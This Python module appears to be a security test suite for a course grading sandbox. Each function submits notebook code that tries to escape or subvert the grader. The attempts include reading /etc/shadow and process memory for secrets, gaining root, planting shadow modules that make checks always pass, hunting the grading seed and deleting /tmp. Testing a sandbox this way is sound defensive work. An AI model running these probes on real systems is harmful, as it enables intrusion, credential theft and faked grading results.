"""Secrets read, places written, networks called, rights gained, and things left for whoever comes next."""

from ..attack import AT_BEST, FULL, NOTHING, attack


@attack(mean_of=NOTHING)
def reads_the_course(scene):
    """Reads the gradebook, the grading seed, the checks' source and the other submissions of the course."""
    return scene.notebook(
        mean_of="""
        import glob
        def mean_of(x):
            found = [*know.files, *glob.glob(know.course + "/**/*", recursive=True), "/etc/shadow", "/etc/passwd"]
            for path in found:
                try:
                    tell_secrets(open(path, "rb").read(10**7), path)
                    if not path.startswith("/etc"):
                        tell("read", path)
                except OSError:
                    pass
            return np.zeros(3)
        """
    )


@attack()
def searches_the_disk(scene):
    """Walks through all directories it may enter, and through its parents', for secrets and homes of others."""
    return scene.notebook(
        first="""
        places = ["/", "..", "../..", "/home", "/root", "/var", "/mnt", "/media", "/srv", "/opt", "/run"]
        for start in [*places, "/proc/self/root"]:
            try:
                for name in os.listdir(start):
                    tell_secrets(name, start)
            except OSError:
                pass
        for place in ("/root", "/home", "/var/spool", "/var/mail", "/run/user", "/etc/ssh"):
            try:
                found = [name for name in os.listdir(place) if not sys.base_prefix.startswith(f"{place}/{name}")]
                tell("a look into", place, found) if found else None
            except OSError:
                pass
        for place, folders, names in os.walk("/tmp"):
            for name in names:
                try:
                    tell_secrets(open(os.path.join(place, name), "rb").read(10**6), place)
                except OSError:
                    pass
        """
    )


@attack()
def reads_its_environment(scene):
    """Prints its environment variables, its arguments, those of its parents, and how its disks are mounted."""
    return scene.notebook(
        first="""
        import glob
        tell_secrets(os.environ, "environment")
        for name in os.environ:
            if name.startswith(("BNLAB_SEED", "BNLAB_DB", "SSH", "AWS", "GITHUB", "PG", "TOKEN")):
                tell("variable", name)
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + ["/proc/self/mountinfo"]:
            try:
                tell_secrets(open(path, "rb").read(), path)
            except OSError:
                pass
        tell_secrets(sys.argv, "arguments")
        """
    )


@attack()
def reads_its_own_memory(scene):
    """Searches all memory of its process, a copy of the fork server's, for secrets of the grader and of others."""
    return scene.notebook(
        first="""
        import ctypes
        pattern, read = re.compile(b"hu" b"sh-[0-9a-f]{16}"), 0
        for line in open("/proc/self/maps"):
            span, rights, *_ = line.split()
            start, end = (int(number, 16) for number in span.split("-"))
            if "r" in rights and "[v" not in line and end - start < 2**28:
                read += end - start
                for secret in set(pattern.findall(ctypes.string_at(start, end - start))):
                    print(secret.decode())
        print("looked through", read >> 20, "MB")
        """
    )


@attack()
def calls_the_network(scene):
    """Connects by TCP, UDP, unix sockets, abstract ones too, packet sockets and netlink, and asks for names."""
    return scene.notebook(
        first="""
        import socket
        targets = [
            (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", know.port)),
            (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", know.port)),
            (socket.AF_INET6, socket.SOCK_STREAM, ("::1", know.port)),
            (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
            (socket.AF_UNIX, socket.SOCK_STREAM, know.socket),
            (socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + know.abstract),
            (socket.AF_UNIX, socket.SOCK_DGRAM, "/dev/log"),
            (socket.AF_UNIX, socket.SOCK_STREAM, "/var/run/docker.sock"),
            (socket.AF_UNIX, socket.SOCK_STREAM, "/run/dbus/system_bus_socket"),
        ]
        for family, kind, address in targets:
            try:
                with socket.socket(family, kind) as out:
                    out.settimeout(0.3)
                    out.connect(address)
                    out.send(b"hello")
                    tell("connected to", address)
            except OSError:
                pass
        kinds = ((17, socket.SOCK_RAW), (2, socket.SOCK_RAW), (40, socket.SOCK_STREAM), (38, socket.SOCK_SEQPACKET))
        for family, kind in kinds:
            try:
                socket.socket(family, kind).close()
                tell("a socket of family", family)
            except OSError:
                pass
        try:
            tell("a name", socket.getaddrinfo("pypi.org", 443))
        except OSError:
            pass
        """
    )


@attack()
def calls_through_io_uring(scene):
    """Asks for a socket by other system calls than socket(): io_uring, socketcall of the 32-bit ABI, x32."""
    return scene.notebook(
        first="""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        ring = ctypes.create_string_buffer(120)
        if libc.syscall(425, 8, ring) >= 0:
            tell("io_uring")
        pid = os.fork()
        if pid == 0:
            if libc.syscall(0x40000000 + 41, 1, 1, 0) >= 0:
                tell("x32")
            os._exit(0)
        os.waitpid(pid, 0)
        """
    )


@attack()
def writes_everywhere(scene):
    """Writes to the course, to installed packages, to system directories and to the secrets themselves."""
    return scene.notebook(
        first="""
        import numpy, site, bnlab
        places = [know.course, "/", "/etc", "/usr/lib", "/usr/local", "/var/tmp", "/home", "/root", "/dev", "/sys",
                  "/proc", os.path.dirname(numpy.__file__), os.path.dirname(bnlab.__file__), sys.prefix,
                  sys.base_prefix, *site.getsitepackages(), os.path.dirname(os.path.dirname(bnlab.__file__))]
        for place in places:
            for attempt in (lambda: open(f"{place}/{know.mark}", "w"), lambda: os.mkdir(f"{place}/{know.mark}-d"),
                            lambda: os.symlink("/etc/passwd", f"{place}/{know.mark}-s")):
                try:
                    attempt()
                    tell("wrote to", place)
                except OSError:
                    pass
        for path in [*know.files, numpy.__file__, bnlab.__file__, "/etc/passwd", "/etc/hosts", sys.executable]:
            for attempt in (lambda: open(path, "a"), lambda: os.unlink(path), lambda: os.chmod(path, 0o777),
                            lambda: os.rename(path, path + know.mark), lambda: os.utime(path, (0, 0)),
                            lambda: os.truncate(path, 0), lambda: os.setxattr(path, "user.x", b"x")):
                try:
                    attempt()
                    tell("changed", path)
                except OSError:
                    pass
        """
    )


@attack(mean_of=NOTHING, others=AT_BEST)
def shadow_modules(scene):
    """Puts modules called numpy, checks, json and bnlab where Python looks first, and start-up files for the next."""
    return scene.notebook(
        first="""
        import site
        code = "import sys; print('BREA' 'CH: a shadow module'); allclose = check = lambda *args, **kwargs: True\\n"
        home = os.path.expanduser("~")
        places = [".", "/tmp", home, site.getusersitepackages(), "/dev/shm"]
        for place in places:
            try:
                os.makedirs(place, exist_ok=True)
                for name in ("numpy", "json", "bnlab", "torch", "sitecustomize", "usercustomize", "IPython", "socket"):
                    open(f"{place}/{name}.py", "w").write(code)
                open(f"{place}/{know.mark}.pth", "w").write("import os; os.system('touch /tmp/x')\\n")
                os.makedirs(f"{place}/.ipython/profile_default/startup", exist_ok=True)
                open(f"{place}/.ipython/profile_default/startup/00.py", "w").write(code)
                open(f"{place}/matplotlibrc", "w").write("backend: module://numpy\\n")
            except OSError:
                pass
        os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = "/tmp"
        os.environ["LD_PRELOAD"] = "/tmp/evil.so"
        """,
        mean_of="def mean_of(x):\n    return np.zeros(3)",
        then="""
        open("checks.py", "w").write("check = lambda *args: 1000\\nproblem_set = None\\n")
        os.execv(sys.executable, [sys.executable, "-c", "print(1)"]) if os.fork() == 0 else os.wait()
        """,
    )


@attack()
def gains_rights(scene):
    """Becomes root, mounts, changes its root, enters other namespaces, loads modules into the kernel."""
    return scene.notebook(
        first="""
        import ctypes, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        def call(name, *args):
            if getattr(libc, name)(*args) >= 0:
                tell(name, args)
        if os.getuid() == 0 or os.geteuid() == 0 or os.getgid() == 0:
            tell("it is root")
        status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
        for name in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
            if int(status[name], 16):
                tell(name, status[name])
        if status["NoNewPrivs"].strip() != "1":
            tell("new privileges")
        for name in ("setuid", "setgid", "setreuid", "setregid"):
            call(name, 0, 0)
        call("setgroups", 1, (ctypes.c_int * 1)(0))
        call("mount", b"none", b"/tmp", b"tmpfs", 0, None)
        call("umount2", b"/tmp", 2)
        call("umount2", b"/proc", 2)
        call("chroot", b"/tmp")
        call("unshare", 0x10000000)
        call("unshare", 0x00020000)
        call("sethostname", b"x", 1)
        call("swapoff", b"/dev/vda")
        call("acct", b"/tmp/acct")
        call("adjtime", ctypes.create_string_buffer(16), None)
        calls = {
            "keyctl": (250, 0, -3, 1),
            "bpf": (321, 0, None, 0),
            "userfaultfd": (323, 0),
            "perf_event_open": (298, 0, 0, 0, 0, 0),
            "finit_module": (313, 0, 0, 0),
            "kexec_load": (246, 0, 0, 0, 0),
            "pivot_root": (155, 0, 0),
            "fsopen": (430, b"tmpfs", 0),
            "open_tree": (428, -100, b"/tmp", 1),
            "syslog": (103, 3, ctypes.create_string_buffer(99), 99),
        }
        for name, arguments in calls.items():
            if libc.syscall(*arguments) >= 0:
                tell(name)
        for pid in (1, os.getppid() or 1, know.grader):
            for kind in ("mnt", "net", "pid", "user", "ipc"):
                try:
                    fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                    if libc.setns(fd, 0) == 0:
                        tell("entered", kind, "of", pid)
                except OSError:
                    pass
        commands = ["sudo -n id -u", "su -c id -u", "pkexec id -u", "newuidmap 1 0 0 1", "unshare -Ur id -u",
                    "bwrap --ro-bind / / --unshare-user --uid 0 id -u"]
        for command in commands:
            try:
                out = subprocess.run(command.split(), capture_output=True, text=True, timeout=2, stdin=-3)
                if out.stdout.strip() == "0":
                    tell(command, "makes it root")
            except (OSError, subprocess.SubprocessError):
                pass
        """
    )


@attack()
def devices(scene):
    """Makes device files, opens those of disks, memory and terminals, and types into the grader's terminal."""
    return scene.notebook(
        first="""
        import fcntl, stat
        numbers = {"disk": (stat.S_IFBLK, 8, 0), "vda": (stat.S_IFBLK, 254, 0), "mem": (stat.S_IFCHR, 1, 1),
                   "kmsg": (stat.S_IFCHR, 1, 11), "zero": (stat.S_IFCHR, 1, 5)}
        for name, (kind, *number) in numbers.items():
            path = f"/tmp/{know.mark}-{name}"
            try:
                os.mknod(path, 0o666 | kind, os.makedev(*number))
                open(path, "rb").read(1)
                tell("read a device of its own", name)
            except OSError:
                pass
        for path in ("/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg",
                     "/dev/kvm", "/dev/fuse", "/dev/loop-control", "/dev/net/tun", "/proc/kcore", "/proc/sysrq-trigger",
                     "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper"):
            for mode in ("rb", "r+b"):
                try:
                    open(path, mode, 0).close()
                    if not (mode == "rb" and path.startswith("/proc/sys/")):
                        tell("opened", path, mode)
                except OSError:
                    pass
        for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/1/fd/0", "/proc/self/fd/0", "/proc/self/fd/2"):
            try:
                fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
                for letter in b"\\n":
                    fcntl.ioctl(fd, 0x5412, bytes([letter]))
                tell("typed into", path)
            except OSError:
                pass
        """
    )


@attack()
def left_for_the_next(scene):
    """Leaves files, links, variables, modules, limits and locks wherever the next submission may find them."""
    return scene.notebook(
        first="""
        import builtins, fcntl, locale, resource, socket
        for place in ("/tmp", "/dev/shm", ".", os.path.expanduser("~"), "/var/tmp", "/run", "/run/lock"):
            for attempt in (lambda: open(f"{place}/{know.mark}-left", "w").write("left"),
                            lambda: os.mkfifo(f"{place}/{know.mark}-fifo"),
                            lambda: os.symlink("/dev/zero", f"{place}/{know.mark}-link"),
                            lambda: os.symlink("/dev/zero", f"{place}/checks.py"),
                            lambda: os.mkdir(f"{place}/__pycache__", 0),
                            lambda: os.chmod(place, 0)):
                try:
                    attempt()
                except OSError:
                    pass
        os.environ["PYTHONPATH"] = os.environ["LEFT"] = know.mark
        builtins.left = sys.left = know.mark
        sys.modules["left"] = sys
        np.seterr(all="raise")
        np.random.seed(1)
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
        os.umask(0o777)
        """
    )


@attack()
def reads_devices_that_never_end(scene):
    """Links what it should show to devices that never end, and to secrets."""
    return scene.notebook(
        first="""
        for name in ("checks.py", "ps1_arrays.ipynb", "record.json", "output", "stdout"):
            for target in ("/dev/zero", *know.files):
                try:
                    if os.path.lexists(name):
                        os.unlink(name)
                    os.symlink(target, name)
                except OSError:
                    pass
        """
    )


@attack()
def deletes_what_it_stands_on(scene):
    """Deletes its working directory and its files while they are in use, and takes away its own permissions."""
    return scene.notebook(
        first="""
        import shutil
        shutil.rmtree("/tmp", ignore_errors=True)
        try:
            os.chmod("/tmp", 0)
        except OSError:
            pass
        try:
            os.makedirs("/tmp/a/b", exist_ok=True)
            os.chdir("/tmp/a/b")
            shutil.rmtree("/tmp/a", ignore_errors=True)
        except OSError:
            pass
        """
    )


@attack(mean_of=FULL)
def reads_the_grading_seed(scene):
    """Looks for the grading seed in every place where the grader keeps or hands on settings."""
    return scene.notebook(
        first="""
        import gc, glob
        places = ["/proc/self/cmdline", "/proc/self/environ", *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("/tmp/*"),
                  *glob.glob("/dev/shm/*"), know.course + "/grading_seed", "checks.py"]
        for path in places:
            try:
                text = open(path, "rb").read(10**6).decode("latin-1").replace("\\0", " ")
                print(path, *re.findall(r"\\b\\d{12,20}\\b", text))
            except OSError:
                pass
        frame = sys._getframe()
        while frame:
            for name, value in list(frame.f_locals.items()):
                if type(value) is int and value > 10**11 or name in ("seed", "material", "grader"):
                    print(name, value if type(value) is int else type(value))
            frame = frame.f_back
        """
    )
